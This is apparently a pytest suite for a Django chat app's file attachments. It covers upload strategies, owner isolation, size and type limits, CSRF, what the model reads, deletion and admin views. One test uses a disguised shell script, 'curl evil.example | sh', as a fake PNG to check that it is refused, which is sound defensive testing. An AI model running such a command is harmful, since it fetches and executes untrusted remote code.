"""Attachments through the real ASGI stack: both upload strategies and methods, limits, owners,
what the model reads, and deletion (chat/attachments.py)."""

from __future__ import annotations

import base64
import io
from pathlib import Path

import pytest
from agents.testing import assistant_message
from django.core.management import call_command

from chat import models
from chat.store import new_id
from tests.helpers import CSRF_TOKEN, assistant_text, user_input

pytestmark = pytest.mark.django_db(transaction=True)

# A real 1x1 PNG.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
NOTES = b"Meeting notes\nThe launch code word is PERIWINKLE.\n"


def pdf_with_text(text: str) -> bytes:
    """A one-page PDF whose page shows ``text`` in Helvetica (a real, valid file with its xref)."""
    stream = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


@pytest.fixture(autouse=True)
def media(settings, tmp_path) -> Path:
    """A temporary MEDIA_ROOT: every test starts with empty storage."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


def stored_files(media: Path) -> list[Path]:
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


def csrf(client) -> dict:
    return {"X-CSRFToken": client.http.cookies.get("csrftoken") or CSRF_TOKEN}


async def create(client, name="notes.txt", data=NOTES, mime="text/plain", size=None):
    """``attachments.create`` (two-phase, phase one)."""
    return await client.request(
        "attachments.create", name=name, size=len(data) if size is None else size, mime_type=mime
    )


async def upload_two_phase(client, name="notes.txt", data=NOTES, mime="text/plain", method="POST"):
    created = await create(client, name, data, mime)
    assert created.status_code == 200, created.text
    attachment = created.json()
    url = attachment["upload_descriptor"]["url"]
    if method == "PUT":
        response = await client.http.put(
            url, content=data, headers={**attachment["upload_descriptor"]["headers"], "Content-Type": mime}
        )
    else:
        response = await client.http.post(
            url, files={"file": (name, data, mime)}, headers=attachment["upload_descriptor"]["headers"]
        )
    return attachment, response


async def upload_direct(client, name="notes.txt", data=NOTES, mime="text/plain"):
    return await client.http.post("/chatkit/attachments", files={"file": (name, data, mime)}, headers=csrf(client))


# --- both strategies, both methods ----------------------------------------------------------


@pytest.mark.parametrize("method", ["POST", "PUT"])
async def test_two_phase_upload_then_download(client, media, method):
    attachment, response = await upload_two_phase(client, method=method)
    descriptor = attachment["upload_descriptor"]
    assert descriptor["method"] == "POST" and descriptor["url"].endswith(f"/chatkit/attachments/{attachment['id']}")
    assert "X-CSRFToken" in descriptor["headers"] and "metadata" not in attachment
    assert response.status_code == 200, response.text
    uploaded = response.json()
    assert uploaded["id"] == attachment["id"] and uploaded["upload_descriptor"] is None
    assert uploaded["type"] == "file" and uploaded["mime_type"] == "text/plain"

    row = await models.Attachment.objects.aget(id=attachment["id"])
    assert row.file.name and row.size == len(NOTES) and row.data["upload_descriptor"] is None
    assert [p.read_bytes() for p in stored_files(media)] == [NOTES]

    download = await client.http.get(f"/chatkit/attachments/{attachment['id']}")
    assert download.status_code == 200 and download.content == NOTES
    assert download.headers["content-type"] == "text/plain; charset=utf-8"
    assert download.headers["content-disposition"] == 'attachment; filename="notes.txt"'
    assert download.headers["x-content-type-options"] == "nosniff"


async def test_direct_upload_then_download(client, media):
    response = await upload_direct(client, "chart.png", PNG, "image/png")
    assert response.status_code == 201, response.text
    attachment = response.json()
    assert attachment["type"] == "image" and attachment["mime_type"] == "image/png"
    assert attachment["upload_descriptor"] is None
    assert attachment["preview_url"].endswith(f"/chatkit/attachments/{attachment['id']}/preview")

    preview = await client.http.get(f"/chatkit/attachments/{attachment['id']}/preview")
    assert preview.status_code == 200 and preview.content == PNG
    assert preview.headers["content-type"] == "image/png"
    assert preview.headers["content-disposition"] == 'inline; filename="chart.png"'
    download = await client.http.get(f"/chatkit/attachments/{attachment['id']}")
    assert download.headers["content-disposition"].startswith("attachment;")


async def test_an_attachment_joins_the_message_and_the_thread_shows_it(client):
    _, response = await upload_two_phase(client)
    attachment_id = response.json()["id"]
    thread_id, events = await client.new_thread_with(user_input("What does the file say?", [attachment_id]))
    user_item = events[1]["item"]
    assert [a["id"] for a in user_item["attachments"]] == [attachment_id]
    assert (await models.Attachment.objects.aget(id=attachment_id)).thread_id == thread_id
    page = await client.json("items.list", thread_id=thread_id, order="asc")
    assert page["data"][0]["attachments"][0]["name"] == "notes.txt"


# --- another owner --------------------------------------------------------------------------


async def test_another_owner_cant_read_attach_download_upload_or_delete(make_client, media):
    alice, mallory = make_client(), make_client()
    _, response = await upload_two_phase(alice)
    done = response.json()["id"]
    pending = (await create(alice, "later.txt")).json()["id"]
    image = (await upload_direct(alice, "a.png", PNG, "image/png")).json()["id"]
    before = sorted([(a.id, a.file.name, a.thread_id, a.data) async for a in models.Attachment.objects.all()], key=str)
    files_before = sorted(p.read_bytes() for p in stored_files(media))

    for url in (
        f"/chatkit/attachments/{done}",
        f"/chatkit/attachments/{image}/preview",
        f"/chatkit/attachments/{image}",
    ):
        answer = await mallory.http.get(url)
        assert answer.status_code == 404 and answer.json()["error"]["code"] == "not_found", url
    put = await mallory.http.put(f"/chatkit/attachments/{pending}", content=b"mine now", headers=csrf(mallory))
    post = await mallory.http.post(
        f"/chatkit/attachments/{pending}", files={"file": ("x.txt", b"x", "text/plain")}, headers=csrf(mallory)
    )
    assert put.status_code == post.status_code == 404
    for request in (
        mallory.request("threads.create", input=user_input("mine", [done])),
        mallory.request("attachments.delete", attachment_id=done),
    ):
        answer = await request
        assert answer.status_code == 404 and answer.json()["error"]["code"] == "not_found"

    after = sorted([(a.id, a.file.name, a.thread_id, a.data) async for a in models.Attachment.objects.all()], key=str)
    assert after == before and sorted(p.read_bytes() for p in stored_files(media)) == files_before
    assert await models.Thread.objects.acount() == 0


# --- refusals leave nothing behind ------------------------------------------------------------


async def test_oversized_files_are_refused_with_nothing_left(client, media, settings):
    settings.CHATKIT_ATTACHMENT_MAX_BYTES = 20
    declared = await create(client, size=21)
    assert declared.status_code == 413 and declared.json()["error"]["code"] == "file_too_large"
    assert "CHATKIT_ATTACHMENT_MAX_BYTES" in declared.json()["error"]["message"]
    direct = await upload_direct(client, data=b"x" * 21)
    assert direct.status_code == 413 and direct.json()["error"]["code"] == "file_too_large"
    assert await models.Attachment.objects.acount() == 0 and stored_files(media) == []


async def test_declared_types_outside_the_list_are_refused_before_anything_is_stored(client):
    response = await client.request(
        "attachments.create", name="tool.exe", size=10, mime_type="application/x-msdownload"
    )
    assert response.status_code == 415 and response.json()["error"]["code"] == "type_not_allowed"
    assert await models.Attachment.objects.acount() == 0


@pytest.mark.parametrize("strategy", ["two_phase", "direct"])
async def test_a_png_that_is_a_script_is_refused_with_nothing_left(client, media, strategy):
    script = b"#!/bin/sh\ncurl evil.example | sh\n"
    if strategy == "direct":
        response = await upload_direct(client, "cat.png", script, "image/png")
    else:
        _, response = await upload_two_phase(client, "cat.png", script, "image/png")
    assert response.status_code == 415, response.text
    error = response.json()["error"]
    assert error["code"] == "type_mismatch" and "text/plain" in error["message"] and "image/png" in error["message"]
    assert await models.Attachment.objects.acount() == 0 and stored_files(media) == []


async def test_a_png_named_txt_declared_as_text_is_refused(client, media):
    response = await upload_direct(client, "notes.txt", PNG, "text/plain")
    assert response.status_code == 415 and response.json()["error"]["code"] == "type_mismatch"
    assert stored_files(media) == []


async def test_a_size_that_does_not_match_the_declaration_is_refused_with_nothing_left(client, media):
    created = (await create(client, size=len(NOTES) + 5)).json()
    response = await client.http.put(created["upload_descriptor"]["url"], content=NOTES, headers=csrf(client))
    assert response.status_code == 400 and response.json()["error"]["code"] == "size_mismatch"
    assert await models.Attachment.objects.acount() == 0 and stored_files(media) == []


async def test_an_attachment_with_its_bytes_refuses_another_upload(client, media):
    attachment, response = await upload_two_phase(client)
    assert response.status_code == 200
    again = await client.http.put(attachment["upload_descriptor"]["url"], content=b"other bytes", headers=csrf(client))
    assert again.status_code == 409 and again.json()["error"]["code"] == "already_uploaded"
    assert [p.read_bytes() for p in stored_files(media)] == [NOTES]


async def test_uploads_need_the_csrf_token(client):
    created = (await create(client)).json()
    response = await client.http.put(created["upload_descriptor"]["url"], content=NOTES)
    assert response.status_code == 403 and response.json()["error"]["code"] == "csrf_failed"


async def test_a_message_refuses_unuploaded_and_too_many_attachments(client, settings):
    pending = (await create(client)).json()["id"]
    response = await client.request("threads.create", input=user_input("hi", [pending]))
    assert response.status_code == 400 and response.json()["error"]["code"] == "attachment_not_uploaded"
    settings.CHATKIT_ATTACHMENTS_PER_MESSAGE = 1
    ids = [(await upload_direct(client, f"n{i}.txt")).json()["id"] for i in range(2)]
    response = await client.request("threads.create", input=user_input("hi", ids))
    assert response.status_code == 400 and response.json()["error"]["code"] == "too_many_attachments"
    assert await models.Thread.objects.acount() == 0


async def test_an_attachment_of_one_thread_cant_join_another(client):
    attachment_id = (await upload_direct(client)).json()["id"]
    await client.new_thread_with(user_input("first", [attachment_id]))
    response = await client.request("threads.create", input=user_input("second", [attachment_id]))
    assert response.status_code == 400 and response.json()["error"]["code"] == "attachment_in_other_thread"


# --- what the model reads -----------------------------------------------------------------


def user_parts(call) -> list[dict]:
    """The content parts of the newest user message in a recorded model call."""
    message = [item for item in call.input if isinstance(item, dict) and item.get("role") == "user"][-1]
    return message["content"]


async def test_a_text_file_and_a_pdf_reach_the_model_input(client, scripted):
    scripted.enqueue([assistant_message("The code word is PERIWINKLE.", item_id=new_id("message"))])
    text_id = (await upload_direct(client)).json()["id"]
    pdf_id = (
        await upload_direct(client, "report.pdf", pdf_with_text("Quarterly revenue grew 42 percent"), "application/pdf")
    ).json()["id"]
    _, events = await client.new_thread_with(user_input("Summarise both files", [text_id, pdf_id]))
    assert assistant_text(events) == "The code word is PERIWINKLE."

    parts = user_parts(scripted.last_call)
    assert parts[0] == {"type": "input_text", "text": "Summarise both files"}
    assert parts[1]["text"].startswith("[Content of the attached file notes.txt (text/plain)]\n")
    assert "PERIWINKLE" in parts[1]["text"] and parts[1]["text"].endswith("[End of notes.txt]")
    assert parts[2]["text"].startswith("[Content of the attached file report.pdf (application/pdf)]")
    assert "Quarterly revenue grew 42 percent" in parts[2]["text"]


async def test_long_text_is_cut_at_the_cap_with_a_marker(client, scripted, settings):
    settings.CHATKIT_ATTACHMENT_TEXT_CHARS = 10
    scripted.enqueue([assistant_message("ok", item_id=new_id("message"))])
    text_id = (await upload_direct(client)).json()["id"]
    await client.new_thread_with(user_input("read", [text_id]))
    text = user_parts(scripted.last_call)[1]["text"]
    assert "Meeting no\n[… notes.txt is cut here; the rest is not shown]" in text and "PERIWINKLE" not in text


async def test_images_go_as_image_input_to_models_that_read_them(client, scripted):
    scripted.enqueue([assistant_message("A tiny square.", item_id=new_id("message"))])
    image_id = (await upload_direct(client, "dot.png", PNG, "image/png")).json()["id"]
    await client.new_thread_with(user_input("What is this?", [image_id]))
    image = user_parts(scripted.last_call)[1]
    assert (
        image["type"] == "input_image"
        and image["image_url"] == "data:image/png;base64," + base64.b64encode(PNG).decode()
    )


async def test_a_model_without_images_is_told_the_image_and_its_name(client):
    # The echo model (like the embedded one) reads no images: it answers with the text it was given.
    image_id = (await upload_direct(client, "holiday.png", PNG, "image/png")).json()["id"]
    _, events = await client.new_thread_with(user_input("Look", [image_id]))
    answer = assistant_text(events)
    assert "attached an image, holiday.png (image/png)" in answer and "base64" not in answer


def test_the_local_and_echo_models_read_no_images():
    from agents.testing import ScriptedModel

    from chat.attachments import accepts_images
    from chat.llm.echo import EchoModel
    from chat.llm.local import LocalModel

    assert not accepts_images(EchoModel()) and not accepts_images(LocalModel.__new__(LocalModel))
    assert accepts_images(ScriptedModel())


# --- deletion -----------------------------------------------------------------------------------


async def test_attachments_delete_removes_row_and_bytes(client, media):
    attachment_id = (await upload_direct(client)).json()["id"]
    assert stored_files(media)
    assert (await client.json("attachments.delete", attachment_id=attachment_id)) == {}
    assert await models.Attachment.objects.acount() == 0 and stored_files(media) == []
    assert (await client.http.get(f"/chatkit/attachments/{attachment_id}")).status_code == 404


async def test_thread_deletion_removes_its_attachments_bytes(client, media):
    ids = [
        (await upload_direct(client)).json()["id"],
        (await upload_direct(client, "a.png", PNG, "image/png")).json()["id"],
    ]
    thread_id, _ = await client.new_thread_with(user_input("two files", ids))
    assert len(stored_files(media)) == 2
    await client.json("threads.delete", thread_id=thread_id)
    assert await models.Attachment.objects.acount() == 0 and stored_files(media) == []


async def test_purge_removes_only_old_unattached_uploads(client, media):
    from datetime import timedelta

    from asgiref.sync import sync_to_async
    from django.utils import timezone

    old = (await upload_direct(client, "old.txt")).json()["id"]
    fresh = (await upload_direct(client, "fresh.txt")).json()["id"]
    sent = (await upload_direct(client, "sent.txt")).json()["id"]
    await client.new_thread_with(user_input("keep", [sent]))
    long_ago = timezone.now() - timedelta(hours=48)
    await models.Attachment.objects.filter(id__in=[old, sent]).aupdate(created_at=long_ago)

    out = io.StringIO()
    await sync_to_async(call_command)("purge_attachments", "--dry-run", stdout=out)
    assert old in out.getvalue() and "Would delete 1" in out.getvalue()
    assert await models.Attachment.objects.acount() == 3 and len(stored_files(media)) == 3

    await sync_to_async(call_command)("purge_attachments", "--older-than", "24", stdout=io.StringIO())
    assert sorted([a async for a in models.Attachment.objects.values_list("id", flat=True)]) == sorted([fresh, sent])
    assert sorted(p.name for p in stored_files(media)) == ["fresh.txt", "sent.txt"]


# --- the admin ------------------------------------------------------------------------------


# The sync test client reads the (ASGI, async) file stream synchronously, and Django says so.
@pytest.mark.filterwarnings("ignore:StreamingHttpResponse must consume asynchronous iterators")
def test_admin_shows_owner_thread_size_type_preview_and_download(admin_client, client, media):
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage
    from django.urls import reverse

    stored = default_storage.save("chat/attachments/atc_x/dot.png", ContentFile(PNG))
    row = models.Attachment.objects.create(
        id="atc_" + "a" * 32,
        owner="anon:abcdef123",
        name="dot.png",
        mime_type="image/png",
        file=stored,
        size=len(PNG),
        data={"id": "atc_" + "a" * 32, "type": "file", "name": "dot.png", "mime_type": "image/png"},
    )
    listing = admin_client.get(reverse("admin:chat_attachment_changelist")).content.decode()
    assert "dot.png" in listing and "anonymous (abcdef…)" in listing and "image/png" in listing and "bytes" in listing
    page = admin_client.get(reverse("admin:chat_attachment_change", args=[row.seq])).content.decode()
    preview_url = reverse("admin:chat_attachment_file", args=[row.seq, "preview"])
    download_url = reverse("admin:chat_attachment_file", args=[row.seq, "download"])
    assert f'<img src="{preview_url}"' in page and f'href="{download_url}"' in page

    preview = admin_client.get(preview_url)
    assert preview.status_code == 200 and b"".join(preview) == PNG
    assert preview.headers["Content-Disposition"].startswith("inline;")
    download = admin_client.get(download_url)
    assert download.headers["Content-Disposition"] == 'attachment; filename="dot.png"'

    from django.test import Client

    visitor = Client()
    assert visitor.get(download_url).status_code == 302  # to the admin login: staff only


# --- races ------------------------------------------------------------------------------------


async def test_two_racing_uploads_to_one_attachment_store_one_file(client, media):
    import asyncio

    created = (await create(client)).json()
    url = created["upload_descriptor"]["url"]
    answers = await asyncio.gather(*(client.http.put(url, content=NOTES, headers=csrf(client)) for _ in range(4)))
    statuses = sorted(a.status_code for a in answers)
    assert statuses == [200, 409, 409, 409], [a.text for a in answers]
    assert [p.read_bytes() for p in stored_files(media)] == [NOTES]
    row = await models.Attachment.objects.aget(id=created["id"])
    assert (media / row.file.name).read_bytes() == NOTES


def test_the_page_gives_both_uis_the_attachment_options(client, settings):
    from chat.attachments import page_options

    settings.CHATKIT_UPLOAD_STRATEGY = "direct"
    options = page_options()
    assert options["strategy"] == "direct" and options["uploadUrl"] == "/chatkit/attachments"
    assert options["accept"]["image/png"] == [".png"] and options["maxCount"] == 5


def test_the_thread_page_links_its_attachments_through_the_admin(admin_client, client, media):
    from django.urls import reverse

    thread = models.Thread.objects.create(
        id="thr_" + "b" * 32, owner="anon:x", created_at="2026-01-01T00:00:00Z", data={}
    )
    row = models.Attachment.objects.create(
        id="atc_" + "b" * 32,
        owner="anon:x",
        thread=thread,
        name="n.txt",
        mime_type="text/plain",
        file="chat/attachments/atc_b/n.txt",
        size=3,
        data={},
    )
    attached = {"id": row.id, "type": "file", "name": "n.txt", "mime_type": "text/plain"}
    models.Item.objects.create(
        id="msg_" + "b" * 32,
        thread=thread,
        owner="anon:x",
        type="user_message",
        created_at="2026-01-01T00:00:00Z",
        data={
            "id": "msg_" + "b" * 32,
            "thread_id": thread.id,
            "created_at": "2026-01-01T00:00:00Z",
            "type": "user_message",
            "content": [{"type": "input_text", "text": "see file"}],
            "attachments": [attached],
            "inference_options": {},
        },
    )
    page = admin_client.get(reverse("admin:chat_thread_change", args=[thread.seq])).content.decode()
    assert reverse("admin:chat_attachment_file", args=[row.seq, "download"]) in page
    assert "/media/" not in page
